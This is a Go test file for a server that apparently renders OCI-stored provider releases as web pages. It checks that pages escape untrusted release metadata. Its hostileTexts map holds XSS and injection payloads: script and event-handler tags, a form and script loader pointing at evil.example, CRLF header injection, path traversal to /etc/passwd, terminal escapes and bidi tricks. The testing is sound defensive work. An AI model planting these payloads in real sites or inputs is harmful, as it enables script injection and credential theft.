package serve_test

import (
	"bytes"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"
	"unicode"

	"github.com/opencontainers/go-digest"
	ocispec "github.com/opencontainers/image-spec/specs-go/v1"

	"github.com/tofu-oci/tofu-oci/internal/testing/patience"
	"github.com/tofu-oci/tofu-oci/pkg/artifact"
	"github.com/tofu-oci/tofu-oci/pkg/provider"
	"github.com/tofu-oci/tofu-oci/pkg/repository"
)

// hostileTexts contains untrusted strings for the fields of a release.
var hostileTexts = map[string]string{
	"a script":                       `<script>alert(1)</script>`,
	"end of the surrounding element": `"'></code></td></table></main><script src=https://evil.example/x.js></script>`,
	"an image":                       `<img src=x onerror=alert(1)>`,
	"active image":                   `<svg/onload=alert(1)>`,
	"a handler within an attribute":  `x" onmouseover="alert(1)" x="`,
	"a handler without quotes":       `x onfocus=alert(1) autofocus`,
	"a handler in backticks":         "x`onclick=alert(1)`",
	"a frame":                        `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	"another base":                   `<base href="https://evil.example/">`,
	"a refresh":                      `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
	"a style":                        `</style><style>*{display:none}</style>`,
	"an import":                      `<link rel=stylesheet href=//evil.example/x.css>`,
	"a form":                         `<form action="https://evil.example/"><input name=password></form>`,
	"a comment":                      `<!-- `,
	"the end of a comment":           `--><!--`,
	"a declaration":                  `<![CDATA[ <?php echo 1 ?> ]]>`,
	"the end of a title":             `</title></textarea></noscript><b>`,
	"entities":                       `&lt;script&gt;&#60;script&#62;&quot;`,
	"unterminated entity":            `&ltscript&gt`,
	"a template":                     `{{.Root}}{{template "top" .}}${alert(1)}`,
	"a script as a link":             `javascript:alert(1)`,
	"disguised script as a link":     "java\tscript:alert(1)//\u0001javascript:alert(1)",
	"a document as a link":           `data:text/html,<script>alert(1)</script>`,
	"another host as a link":         `//evil.example/`,
	"right-to-left override":         "gpj.\u202Eexe.live\u202C",
	"unterminated isolates":          "\u2066\u2067\u2068 admin",
	"direction marks":                "\u200E\u200F\u061C",
	"right-to-left letters":          "ספק אדום",
	"zero width":                     "ac\u200Bm\u200De\uFEFF\u2060",
	"tags":                           "\U000E0041\U000E0042",
	"blank letters":                  "a\u3164\u115F\uFFA0",
	"a terminal's escapes":           "\x1b[2J\x1b]8;;https://evil.example\x1b\\\u009b2J",
	"a NUL":                          "a\x00b",
	"control characters":             "a\b\f\v\x7f\u0085b",
	"lines":                          "a\r\nSet-Cookie: a=b\r\n\r\n<script>",
	"line separators":                "a\u2028b\u2029c",
	"stacked marks":                  "Z" + strings.Repeat("\u0335\u0321\u034a", 300),
	"leading marks":                  strings.Repeat("\u20DD", 40),
	"variations":                     "a\uFE0F\U000E0100",
	"for private use":                "\uE000\U000F0000",
	"a line of a megabyte":           strings.Repeat("a", 1<<20),
	"much markup":                    strings.Repeat("<b>'", 1<<14),
	"very many marks":                strings.Repeat("\u0301", 1<<14),
	"many lines":                     strings.Repeat("a\n", 1<<14),
	"a path":                         "../../../../etc/passwd",
	"nothing":                        "",
	"much white space":               strings.Repeat(" \u00A0\u3000", 1<<13),
	"lone surrogate in JSON":         "\uFFFD", // the result of decoding \ud800 in JSON
	"brackets of other scripts":      "\uFF1Cscript\uFF1E",
	"percent sign in a URL":          "%3Cscript%3E%00%2e%2e%2f",
}

// TestHostileText checks that pages escape all untrusted strings, so that the strings
// can't add tags or attributes.
func TestHostileText(t *testing.T) {
	t.Parallel()
	patience.SkipIfShort(t)
	signed := newKey(t)
	for where, open := range map[string]func(*testing.T) *world{
		"layout":   func(t *testing.T) *world { t.Helper(); return newLayout(t) },
		"registry": func(t *testing.T) *world { t.Helper(); return newRegistry(t) },
	} {
		calm := map[string]bool{}
		for _, text := range []string{"calm", "not/a/name"} {
			for _, body := range open(t).pagesWith(t, text, signed) {
				maps.Copy(calm, skeleton(body))
			}
		}
		for name, text := range hostileTexts {
			t.Run(name+" in a "+where, func(t *testing.T) {
				t.Parallel()
				for path, body := range open(t).pagesWith(t, text, signed) {
					for tag := range skeleton(body) {
						if !calm[tag] {
							t.Errorf("%s contains %s", path, tag)
						}
					}
					if at := strings.IndexFunc(body, isInvisible); at >= 0 {
						t.Errorf("%s contains %q", path, body[at:min(len(body), at+20)])
					}
				}
			})
		}
	}
}

// isInvisible reports whether a character is invisible.
func isInvisible(r rune) bool {
	return r != '\n' && unicode.In(r, unicode.Cc, unicode.Cf, unicode.Co, unicode.Zl, unicode.Zp, unicode.Variation_Selector, unicode.Other_Default_Ignorable_Code_Point)
}

var (
	tags       = regexp.MustCompile(`<[^>]*>`)
	attributes = regexp.MustCompile(`="[^"]*"`)
)

// skeleton returns the tags of a page with the names of their attributes.
func skeleton(body string) map[string]bool {
	all := map[string]bool{}
	for _, tag := range tags.FindAllString(body, -1) {
		all[attributes.ReplaceAllString(tag, "")] = true
	}
	return all
}

// pagesWith returns the pages for a release that contains the given string in every
// possible field.
func (w *world) pagesWith(t *testing.T, text string, by *key) map[string]string {
	t.Helper()
	w.pushHostile(t, text, by)
	all := map[string]string{}
	word := url.QueryEscape(text[:min(len(text), 100)])
	for path, want := range map[string][]int{
		"/": {200}, "/?search=" + word: {200}, rocketPage: {200}, rocketPage + "/1.0.0": {200},
		rocketPage + "?page=" + word: {200, 400},
		rocketPage + "/" + word:      {400, 404},
	} {
		got := w.raw(t, http.MethodGet, path)
		if !slices.Contains(want, got.Code) {
			t.Errorf("%s: got %d %s", path, got.Code, got.Body)
		}
		if got.Header().Get("Content-Type") != "application/json" { // errors about invalid paths are in JSON
			checkPage(t, path, got.Header(), got.Body.String())
			all[path] = got.Body.String()
		}
	}
	return all
}

// pushHostile stores a release that contains the given string.
func (w *world) pushHostile(t *testing.T, text string, by *key) {
	t.Helper()
	// 1. Push a valid release with an SBOM for each package.
	w.push(t, rocket{version: "1.0.0", key: by})
	bom := w.pushJSON(t, map[string]any{"spdxVersion": "SPDX-2.3"})
	layer := func(mediaType, title string) map[string]any {
		return map[string]any{
			"mediaType": mediaType, "digest": bom.Digest.String(), "size": bom.Size, "annotations": map[string]any{ocispec.AnnotationTitle: title},
		}
	}
	// 2. Add the string to the release's manifests and index.
	tagged, index := w.manifest(t, "1.0.0")
	for _, m := range index["manifests"].([]any) {
		child := m.(map[string]any)
		_, manifest := w.manifest(t, child["digest"].(string))
		manifest["layers"] = append(manifest["layers"].([]any),
			layer(artifact.MediaTypeSPDX, "terraform-provider-rocket_1.0.0.spdx.json"), layer("application/x-"+text, text), layer(artifact.MediaTypeSPDX, text+".spdx.json"))
		pushed := w.pushManifest(t, manifest)
		child["digest"], child["size"] = pushed.Digest.String(), pushed.Size
	}
	annotations := index["annotations"].(map[string]any)
	annotations["io.github.tofu-oci.protocols"] = text + ",5.0"
	annotations[ocispec.AnnotationSource], annotations[ocispec.AnnotationCreated] = text, text
	moved := w.blob(t, index)
	if err := w.repo.PushTag(t.Context(), moved, "1.0.0", tagged.Digest); err != nil {
		t.Fatal(err)
	}
	// 3. Add a referrer.
	w.refer(t, text, moved.Descriptor)
}

// refer attaches a document, and then sets a name that tofu-oci would not write.
func (w *world) refer(t *testing.T, name string, to ocispec.Descriptor) {
	t.Helper()
	calm := artifact.NewDocument("calm.intoto.jsonl", artifact.MediaTypeInToto, []byte("{}"))
	if _, err := repository.Attach(t.Context(), w.repo, []provider.Document{calm}, artifact.Blob{Descriptor: to}); err != nil {
		t.Fatal(err)
	}
	packed, err := artifact.PackReferrer(calm, to)
	if err != nil {
		t.Fatal(err)
	}
	_, manifest := w.manifest(t, packed.Manifest.Descriptor.Digest.String())
	layer := manifest["layers"].([]any)[0].(map[string]any)
	layer["annotations"] = map[string]any{ocispec.AnnotationTitle: name + ".intoto.jsonl"}
	renamed := w.pushManifest(t, manifest)
	list := artifact.ReferrersTag(to.Digest)
	if w.registry != nil {
		return // this registry lists referrers itself
	}
	was, index := w.manifest(t, list)
	entry := index["manifests"].([]any)[0].(map[string]any)
	entry["digest"], entry["size"] = renamed.Digest.String(), renamed.Size
	if err := w.repo.PushTag(t.Context(), w.blob(t, index), list, was.Digest); err != nil {
		t.Fatal(err)
	}
}

func (w *world) manifest(t *testing.T, reference string) (ocispec.Descriptor, map[string]any) {
	t.Helper()
	d, data, err := w.repo.Manifest(t.Context(), reference)
	if err != nil {
		t.Fatal(err)
	}
	var document map[string]any
	if err := json.Unmarshal(data, &document); err != nil {
		t.Fatal(err)
	}
	return d, document
}

func (w *world) blob(t *testing.T, document map[string]any) artifact.Blob {
	t.Helper()
	var text bytes.Buffer
	encoder := json.NewEncoder(&text)
	encoder.SetEscapeHTML(false) // escaping would turn one byte into six bytes
	if err := encoder.Encode(document); err != nil {
		t.Fatal(err)
	}
	data := text.Bytes()
	mediaType, _ := document["mediaType"].(string)
	return artifact.Blob{Descriptor: ocispec.Descriptor{MediaType: mediaType, Digest: digest.FromBytes(data), Size: int64(len(data))}, Bytes: data}
}

func (w *world) pushManifest(t *testing.T, document map[string]any) ocispec.Descriptor {
	t.Helper()
	m := w.blob(t, document)
	if err := w.repo.PushManifest(t.Context(), m); err != nil {
		t.Fatal(err)
	}
	return m.Descriptor
}

func (w *world) pushJSON(t *testing.T, document map[string]any) ocispec.Descriptor {
	t.Helper()
	b := w.blob(t, document)
	if err := w.repo.PushBlob(t.Context(), b.Descriptor, bytes.NewReader(b.Bytes)); err != nil {
		t.Fatal(err)
	}
	return b.Descriptor
}
